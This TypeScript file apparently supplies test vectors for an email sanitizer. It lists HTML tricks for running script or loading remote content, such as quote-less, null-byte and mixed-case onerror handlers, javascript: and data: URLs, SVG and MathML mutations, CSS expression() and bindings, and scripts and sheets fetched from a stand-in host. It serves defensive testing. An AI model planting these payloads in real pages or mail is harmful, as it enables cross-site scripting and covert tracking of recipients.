import { hostOf, letter, run, slug, type Vector } from './vector.ts'

/** HTML that the other collection (hostile-mail.ts) has not: old engines, new elements, mutations. */
export type MarkupEntry = [name: string, tries: string, html: (host: string, run: string) => string]

const ENTRIES: MarkupEntry[] = [
  [
    'script in a data address',
    'a script from data:',
    (_h, r) => `<script src="data:text/javascript,${encodeURIComponent(r)}"></script>`,
  ],
  [
    'script of SVG',
    'a script element of SVG with an address',
    (h) => `<svg><script href="${h}/a.js" xlink:href="${h}/b.js"></script></svg>`,
  ],
  [
    'handler without quotes',
    'a handler after a slash',
    (_h, r) => `<img/src=x:/onerror=${r.replaceAll(/[\s']/g, '')}>`,
  ],
  [
    'handler in odd case',
    'a handler in mixed case, with a line break',
    (_h, r) => `<IMG SRC="x:" oNeRrOr\n=\n"${r}">`,
  ],
  [
    'handler behind a null',
    'a null byte in the name of a handler',
    (_h, r) => `<img src="x:" on\0error="${r}"><im\0g src="x:" onerror="${r}">`,
  ],
  [
    'handlers of media',
    'events of sound and video',
    (_h, r) =>
      `<video src="x:" onerror="${r}"><source onerror="${r}"></video><audio src="x:" onloadstart="${r}"></audio>`,
  ],
  [
    'handlers of transitions',
    'an event of a transition',
    (_h, r) =>
      `<p style="transition:color 1ms;color:red" ontransitionend="${r}" oncontentvisibilityautostatechange="${r}">words</p>`,
  ],
  [
    'handler of a scroll',
    'scrolling by the anchor of an address',
    (_h, r) =>
      `<div style="height:9px;overflow:scroll" onscroll="${r}" onscrollend="${r}"><p style="height:90px" id="x">words</p></div>`,
  ],
  [
    'set of SVG',
    'a link given its address by animation',
    (_h, r) =>
      `<svg><a><set attributeName="href" to="javascript:${encodeURIComponent(r)}"/><text y="20">press</text></a></svg>`,
  ],
  [
    'discard of SVG',
    'an event of SVG time',
    (_h, r) => `<svg><discard onbegin="${r}"/><handler type="text/javascript">${r}</handler></svg>`,
  ],
  [
    'sheet of SVG',
    'a style sheet inside a drawing',
    (h) =>
      `<svg><style>@import "${h}/a.css";</style><defs><pattern id="p"><image href="${h}/p.png"/></pattern></defs><rect fill="url(${h}/r.svg#x)"/></svg>`,
  ],
  [
    'maction of MathML',
    'an old link of formulas',
    (h) => `<math><maction actiontype="statusline" xlink:href="${h}/"><mtext>press</mtext></maction></math>`,
  ],
  [
    'annotation of MathML',
    'HTML inside an annotation',
    (h, r) =>
      `<math><annotation-xml encoding="text/html"><img src="${h}/a.png" onerror="${r}"><iframe src="${h}/b"></iframe></annotation-xml></math>`,
  ],
  [
    'expression of styles',
    'a script in a style of old engines',
    (_h, r) => `<p style="width:expression(${r.replaceAll('"', '')})">words</p>`,
  ],
  [
    'behaviour of styles',
    'a behaviour and a binding',
    (h) => `<p style="behavior:url(${h}/a.htc);-moz-binding:url(${h}/a.xml#x)">words</p>`,
  ],
  [
    'drawing of Word',
    'VML with pictures',
    (h) =>
      `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:rect fill="true"><v:fill type="frame" src="${h}/a.png"/><v:imagedata src="${h}/b.png"/></v:rect>`,
  ],
  [
    'comment for one engine',
    'a conditional comment of both kinds',
    (h) =>
      `<!--[if gte mso 9]><img src="${h}/a.png"><![endif]--><![if !mso]><img src="${h}/b.png"><![endif]>`,
  ],
  [
    'layer of Netscape',
    'elements that once loaded',
    (h) =>
      `<ilayer src="${h}/a"></ilayer><layer src="${h}/b"></layer><nextid><keygen><isindex action="${h}/c" type="image" src="${h}/d.png">`,
  ],
  [
    'frame of a script',
    'a frame with a script address',
    (_h, r) =>
      `<iframe src="javascript:${encodeURIComponent(r)}"></iframe><iframe srcdoc="&lt;script&gt;${r}&lt;/script&gt;"></iframe>`,
  ],
  [
    'lazy frame',
    'a frame that loads late, and a fenced one',
    (h) => `<iframe loading="lazy" src="${h}/a"></iframe><fencedframe src="${h}/b"></fencedframe>`,
  ],
  [
    'object of data',
    'an embedded document of its own',
    (_h, r) =>
      `<object type="text/html" data="data:text/html,<script>${r}</script>"></object><embed type="image/svg+xml" src="data:image/svg+xml,<svg onload='${r}'/>">`,
  ],
  [
    'object with a fallback',
    'a picture as the fallback of an object',
    (h) => `<object data="x:"><param name="movie" value="${h}/a.swf"><img src="${h}/b.png"></object>`,
  ],
  [
    'attribution of a picture',
    'attribution reporting',
    (h) =>
      `<img attributionsrc="${h}/a" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><a attributionsrc="${h}/b" href="https://example.test/">press</a>`,
  ],
  [
    'picture without an address',
    'only a set of sources, with sizes',
    (h) =>
      `<picture><source media="(min-width:1px)" srcset="${h}/a.png 1x"><img sizes="auto" loading="lazy" srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1w, ${h}/b.png 900w"></picture>`,
  ],
  [
    'sheet in a data address',
    'a sheet that imports another',
    (h) =>
      `<link rel="stylesheet" href="data:text/css,@import url(${h}/a.css)"><style>@import "data:text/css,@import url(${h}/b.css)";</style>`,
  ],
  [
    'links of new kinds',
    'dictionary, search, alternate sheet, canonical',
    (h) =>
      [
        'compression-dictionary',
        'search',
        'alternate stylesheet',
        'canonical',
        'pingback',
        'expect',
        'dns-prefetch',
      ]
        .map((rel) => `<link rel="${rel}" href="${h}/${slug(rel)}" title="x">`)
        .join(''),
  ],
  [
    'headers as elements',
    'meta elements that act like headers',
    (h) =>
      `<meta http-equiv="Link" content="<${h}/a.css>; rel=stylesheet"><meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url"><meta http-equiv="x-dns-prefetch-control" content="on"><a href="${h}/c">press</a>`,
  ],
  [
    'refresh to data',
    'a redirect into a document of its own',
    (_h, r) =>
      `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${r}</script>"><meta http-equiv="Refresh" content="0; URL='javascript:${encodeURIComponent(r)}'">`,
  ],
  [
    'manifest of the page',
    'the old application cache',
    (h) => `<html manifest="${h}/a.appcache"><head profile="${h}/b"></head><p>words</p>`,
  ],
  [
    'form by key',
    'fields that take the focus and send',
    (h, r) =>
      `<form action="${h}/a" target="_blank"><input accesskey="x" autofocus onfocus="${r}"><input type="submit" formaction="${h}/b" value="press"><input type="image" src="${h}/c.png"></form>`,
  ],
  [
    'button of a script',
    'a form action that is a script',
    (_h, r) => `<form><button formaction="javascript:${encodeURIComponent(r)}">press</button></form>`,
  ],
  [
    'opener of a window',
    'a window that keeps its opener',
    (h) =>
      `<a href="${h}/a" target="_blank" rel="opener">press</a><a href="${h}/b" target="_top" download="a.exe">press</a>`,
  ],
  [
    'command of a button',
    'invokers and popovers',
    (_h, r) =>
      `<button commandfor="d" command="show-modal">press</button><dialog id="d" onbeforetoggle="${r}"><p>words</p></dialog><button interestfor="d">x</button>`,
  ],
  [
    'element of its own',
    'custom elements and slots',
    (h, r) =>
      `<x-mail onconnect="${r}"><slot onslotchange="${r}"></slot></x-mail><p is="x-mail" contenteditable onfocus="${r}" autofocus>words</p><img is="x-img" src="${h}/a.png">`,
  ],
  [
    'shadow in a shadow',
    'nested declarative shadow roots',
    (h) =>
      `<div><template shadowrootmode="open" shadowrootserializable><section><template shadowrootmode="closed"><img src="${h}/a.png"></template></section></template></div>`,
  ],
]

export function asMarkup([name, tries, html]: MarkupEntry): Vector {
  const host = slug(name)
  return { name, tries, eml: letter(html(hostOf(host), run(host))) }
}

export const MARKUP: Vector[] = ENTRIES.map(asMarkup)
